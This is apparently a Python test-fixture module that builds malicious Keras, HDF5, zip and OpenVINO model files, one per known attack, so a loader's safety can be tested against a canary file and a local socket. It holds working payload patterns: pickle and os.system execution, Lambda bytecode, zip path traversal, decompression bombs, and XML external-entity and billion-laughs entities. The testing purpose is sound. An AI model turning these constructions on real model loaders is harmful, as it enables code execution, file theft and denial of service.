"""Models made to harm: one for each known way to attack Keras, HDF5, zip and OpenVINO through a file.

Each is made in the test that needs it. Where an attack has a payload, it is a real one: it would write the canary file
or call the canary's socket.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import socket
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py  # type: ignore[import-untyped]
import numpy as np

from bundles import keras_archive, keras_config


@dataclass(frozen=True)
class Canary:
    """What a payload would touch.

    Attributes:
        file: it would make this file.
        url: it would fetch this.
        secret: it would read this.
    """

    file: Path
    url: str
    secret: Path
    _listener: socket.socket
    _environment: dict[str, str]

    @classmethod
    @contextmanager
    def sitting(cls, folder: Path) -> Iterator[Canary]:
        """A canary that lives in `folder`."""
        folder.mkdir()
        (folder / "secret").write_bytes(bytes(range(64)))
        with socket.create_server(("127.0.0.1", 0)) as listener:
            listener.setblocking(False)
            url = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
            yield cls(folder / "touched", url, folder / "secret", listener, dict(os.environ))

    def check(self) -> None:
        """Fails where anything was touched."""
        assert not self.file.exists()
        # pytest itself keeps the name of the running test there.
        now = {key: value for key, value in os.environ.items() if key != "PYTEST_CURRENT_TEST"}
        assert now == {key: value for key, value in self._environment.items() if key != "PYTEST_CURRENT_TEST"}
        try:
            self._listener.accept()[0].close()
        except BlockingIOError:
            return
        raise AssertionError("somebody called")


class Touch:
    """Unpickled, it runs a command."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.file}",)


def _node(kind: Any, module: Any = "keras.layers", registered: Any = None, **config: Any) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": "x", **config},
        "registered_name": registered,
        "name": "x",
        "inbound_nodes": [],
    }


def _lambda(canary: Canary) -> dict[str, Any]:
    """A Lambda layer as Keras 3 writes it, around real byte code."""
    code = compile(f"(open({str(canary.file)!r}, 'w'), 1)[1]", "x", "eval")
    text = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}
    return _node("Lambda", function=function, output_shape=[3])


def _pickled(kind: str, canary: Canary) -> dict[str, Any]:
    """A layer that unpickles its argument `module` (CVE-2025-49655)."""
    node = _node(kind)
    node["config"]["module"] = base64.b64encode(pickle.dumps(Touch(canary.file))).decode()
    return node


def _call(module: str, name: str, *arguments: str) -> dict[str, Any]:
    """A function in the place of a class: called with its configuration, as in CVE-2025-1550."""
    return {
        "module": module,
        "class_name": name,
        "config": dict(zip(("command", "name", "origin"), arguments, strict=False)),
        "registered_name": None,
        "inbound_nodes": [],
    }


LAYERS: dict[str, Callable[[Canary], dict[str, Any]]] = {
    "lambda": _lambda,
    "lambda-in-time-distributed": lambda canary: _node("TimeDistributed", layer=_lambda(canary)),
    "lambda-in-a-network": lambda canary: _node("Sequential", "keras", layers=[_lambda(canary)]),
    "lambda-as-activation": lambda canary: _node("Dense", units=3, activation=_lambda(canary)["config"]["function"]),
    "lambda-as-initializer": lambda canary: _node("Dense", units=3, kernel_initializer=_lambda(canary)),
    "lambda-as-regularizer": lambda canary: _node("Dense", units=3, kernel_regularizer=_lambda(canary)),
    "saved-model": lambda canary: _node("TFSMLayer", filepath=canary.url),
    "saved-model-by-module": lambda canary: _node("TFSMLayer", "keras.src.export.tfsm_layer", filepath=canary.url),
    "torch": lambda canary: _pickled("TorchModuleWrapper", canary),
    "jax": lambda canary: _node("JaxLayer", "keras.layers", call_fn=_call("os", "system", f"touch {canary.file}")),
    "flax": lambda canary: _pickled("FlaxLayer", canary),
    "os-system": lambda canary: _call("os", "system", f"touch {canary.file}"),
    "subprocess": lambda canary: _call("subprocess", "getoutput", f"touch {canary.file}"),
    "builtins-exec": lambda canary: _call("builtins", "exec", f"open({str(canary.file)!r}, 'w')"),
    "function-by-name": lambda canary: _node(
        "Activation",
        activation={"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"},
    ),
    "any-keras-function": lambda canary: _call("keras.saving", "load_model", str(canary.secret)),
    "unsafe-mode": lambda canary: _call("keras.config", "enable_unsafe_deserialization"),
    "unsafe-mode-by-source": lambda canary: _call(
        "keras.src.saving.serialization_lib", "enable_unsafe_deserialization"
    ),
    "global-state": lambda canary: _call("keras.config", "set_floatx", "float16"),
    "get-file": lambda canary: _call("keras.utils", "get_file", str(canary.file), str(canary.file), canary.url),
    "numpy-load": lambda canary: _call("numpy", "load", str(canary.secret)),
    "custom-object": lambda canary: _node("Evil", "evil_package.layers", "evil_package>Evil"),
    "registered-name": lambda canary: _node("Dense", registered="evil_package>Dense", units=3),
    "vocabulary-file": lambda canary: _node("StringLookup", vocabulary=str(canary.secret)),
    "vocabulary-address": lambda canary: _node("TextVectorization", vocabulary=canary.url),
    "integer-vocabulary": lambda canary: _node("IntegerLookup", vocabulary=str(canary.secret)),
    "index-lookup": lambda canary: _node(
        "IndexLookup", "keras.src.layers.preprocessing.index_lookup", vocabulary=str(canary.secret)
    ),
    "type-spec": lambda canary: {"class_name": "__typespec__", "spec_name": "x", "module": "os", "config": {}},
    "bytes": lambda canary: {"class_name": "__bytes__", "config": {"value": "x"}},
    "dtype-policy": lambda canary: _node("ReLU", dtype=_call("keras.config", "set_dtype_policy", "float16")),
    "size-bomb": lambda canary: _node("Dense", units=50_000_000),
}
"""Layers, and what is put in the place of one: they get into `config.json`, reached by the network or not."""


def _weights(fill: Callable[[Any, Canary], Any]) -> Callable[[Canary], bytes]:
    def make(canary: Canary) -> bytes:
        buffer = io.BytesIO()
        with h5py.File(buffer, "w") as file:
            fill(file, canary)
        return zipped([*parts()[:2], ("model.weights.h5", buffer.getvalue())])

    return make


def _virtual(file: Any, canary: Canary) -> None:
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource(str(canary.secret), "x", (4,))
    file.create_virtual_dataset("x", layout)


def _linked(link: Callable[[Canary], Any]) -> Callable[[Any, Canary], None]:
    def fill(file: Any, canary: Canary) -> None:
        file.create_group("layers/dense")["vars"] = link(canary)

    return fill


def parts() -> list[tuple[str, bytes]]:
    """The entries of the tiny network's `.keras` file."""
    with zipfile.ZipFile(io.BytesIO(keras_archive())) as source:
        return [(entry.filename, source.read(entry)) for entry in source.infolist()]


def zipped(entries: list[tuple[str | zipfile.ZipInfo, bytes]] | list[tuple[str, bytes]], method: int = 0) -> bytes:
    """A zip file of these entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        for name, data in entries:
            target.writestr(name, data)
    return buffer.getvalue()


def _symbolic(canary: Canary) -> bytes:
    link = zipfile.ZipInfo("model.weights.h5")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return zipped([*parts()[:2], (link, str(canary.secret).encode())])


def _lying(canary: Canary) -> bytes:
    """An entry that unpacks to a thousand times what its header says."""
    packed = zlib.compress(bytes(64 << 20))[2:-4]
    data = bytearray(zipped([*parts()[:2], ("model.weights.h5", packed)]))
    for at in (data.rfind(b"PK\x03\x04") + 8, data.rfind(b"PK\x01\x02") + 10):
        struct.pack_into("<H", data, at, zipfile.ZIP_DEFLATED)
    return bytes(data)


def _overlapping(canary: Canary) -> bytes:
    """Two entries of the directory point to the same bytes: the quine and the bomb of Fifield 2019."""
    data = bytearray(zipped(parts()))
    second = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 1)
    third = data.find(b"PK\x01\x02", second + 1)
    data[third + 42 : third + 46] = data[second + 42 : second + 46]
    return bytes(data)


def _encrypted(canary: Canary) -> bytes:
    data = bytearray(zipped(parts()))
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


def _hdf5(canary: Canary) -> bytes:
    """A file of Keras 2, whose Lambda layers `safe_mode` let pass (CVE-2025-9905)."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = json.dumps(
            {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}}
        )
    return buffer.getvalue()


def _npz(canary: Canary) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, x=np.array([Touch(canary.file)], object))
    return buffer.getvalue()


KERAS: dict[str, Callable[[Canary], bytes]] = {
    "external-storage": _weights(lambda h, c: h.create_dataset("x", (8,), "f4", external=[(str(c.secret), 0, 32)])),
    "external-link": _weights(_linked(lambda c: h5py.ExternalLink(str(c.secret), "/"))),
    "soft-link": _weights(_linked(lambda c: h5py.SoftLink("/"))),
    "virtual-dataset": _weights(_virtual),
    "shape-bomb": _weights(lambda h, c: h.create_dataset("x", (1 << 40,), "f4", chunks=(1024,))),
    "compressed-bomb": _weights(lambda h, c: h.create_dataset("x", data=np.zeros(1 << 20), compression="gzip")),
    "strings": _weights(lambda h, c: h.create_dataset("x", (2,), h5py.string_dtype())),
    "references": _weights(lambda h, c: h.create_dataset("x", (2,), h5py.ref_dtype)),
    "no-hdf5": lambda c: zipped([*parts()[:2], ("model.weights.h5", pickle.dumps(Touch(c.file)))]),
    "traversal": lambda c: zipped([*parts(), ("../../../../../../.." + str(c.file), b"x")]),
    "absolute": lambda c: zipped([*parts(), (str(c.file), b"x")]),
    "assets": lambda c: zipped([*parts(), ("assets/_layer_checkpoint_dependencies/x/vocabulary.txt", b"x")]),
    "symlink-entry": _symbolic,
    "bomb": lambda c: zipped([*parts()[:2], ("model.weights.h5", bytes(64 << 20))], zipfile.ZIP_DEFLATED),
    "lying-bomb": _lying,
    "other-compression": lambda c: zipped(parts(), zipfile.ZIP_BZIP2),
    "overlapping": _overlapping,
    "encrypted": _encrypted,
    "npz-weights": lambda c: zipped([*parts()[:2], ("model.weights.npz", _npz(c))]),
    "hdf5-renamed": _hdf5,
    "pickle-renamed": lambda c: pickle.dumps(Touch(c.file)),
    "npz-renamed": _npz,
    "nested-json": lambda c: zipped([parts()[0], ("config.json", b"[" * 10**6), parts()[2]]),
}
"""Whole files in the place of `model.keras`."""


def _dead(layer: Callable[[Canary], dict[str, Any]]) -> Callable[[Canary], bytes]:
    """In the arguments of a node that no output needs."""

    def make(canary: Canary) -> bytes:
        config = keras_config()
        dead = _node("ReLU")
        dead["inbound_nodes"] = [{"args": [], "kwargs": {"mask": [{"deep": layer(canary)}]}}]
        config["config"]["layers"].append(dead)
        return keras_archive(config=config)

    return make


def _added(layer: Callable[[Canary], dict[str, Any]]) -> Callable[[Canary], bytes]:
    def make(canary: Canary) -> bytes:
        config = keras_config()
        config["config"]["layers"].append(layer(canary))
        return keras_archive(config=config)

    return make


KERAS |= {f"layer-{name}": _added(layer) for name, layer in LAYERS.items()}
KERAS |= {f"dead-{name}": _dead(LAYERS[name]) for name in ("lambda", "torch", "os-system", "get-file")}
KERAS |= {
    "network-itself": lambda c: keras_archive(config=_call("os", "system", f"touch {c.file}")),
    "network-of-a-module": lambda c: keras_archive(config=keras_config() | {"module": "evil_package.models"}),
    "network-registered": lambda c: keras_archive(config=keras_config() | {"registered_name": "evil>Functional"}),
}


def _edited(old: str, new: str) -> Callable[[Path, Canary], None]:
    def edit(staging: Path, canary: Canary) -> None:
        path = staging / "export/openvino/model.xml"
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new.replace("SECRET", str(canary.secret)).replace("URL", canary.url), 1))

    return edit


def _bomb_picture(staging: Path, canary: Canary) -> None:
    """30,000 x 30,000 pixels in a few bytes."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(bytes(1 << 20))), (b"IEND", b"")]
    made = b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks)
    (staging / "selftest/0.png").write_bytes(b"\x89PNG\r\n\x1a\n" + made)


OTHERS: dict[str, Callable[[Path, Canary], None]] = {
    "xml-external-entity": _edited("<net ", '<!DOCTYPE net [<!ENTITY a SYSTEM "file://SECRET">]><net x="&a;" '),
    "xml-external-document": _edited("<net ", '<!DOCTYPE net SYSTEM "URL"><net '),
    "xml-laughs": _edited("<net ", '<!DOCTYPE net [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><net x="&b;" '),
    "ir-unknown-operation": _edited('type="MatMul"', 'type="Evil"'),
    "ir-loop": _edited('type="MatMul"', 'type="Loop"'),
    "ir-beyond-its-weights": _edited('offset="0"', 'offset="4096"'),
    "ir-other-size": _edited('size="16"', 'size="1048576"'),
    "ir-shape-bomb": _edited("<dim>8</dim>", "<dim>100000000000</dim>"),
    "selftest-bomb": _bomb_picture,
    "selftest-path": lambda staging, canary: (
        (staging / "selftest/expected.json").write_text(
            json.dumps({"images": [{"file": "../" * 12 + str(canary.secret)[1:], "probabilities": [0.5, 0.5]}]})
        )
        and None
    ),
}
"""What else of a bundle is read by native code, or names a file."""


def spoil(what: str) -> Callable[[Path, Canary], None]:
    """The attack of that name, as a change of a staging folder."""
    if what in OTHERS:
        return OTHERS[what]

    def write(staging: Path, canary: Canary) -> None:
        (staging / "model.keras").write_bytes(KERAS[what](canary))

    return write


ALL = [*KERAS, *OTHERS]
